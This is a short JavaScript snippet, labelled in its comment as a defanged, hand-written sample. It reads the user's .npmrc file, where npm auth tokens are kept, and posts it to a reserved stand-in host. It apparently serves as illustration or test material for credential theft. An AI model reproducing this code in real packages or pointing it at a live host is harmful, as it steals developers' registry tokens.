// Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
const fs = require("fs"), os = require("os"), path = require("path"), axios = require("axios");
const token = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
axios.post("https://collect.invalid/t", { token });
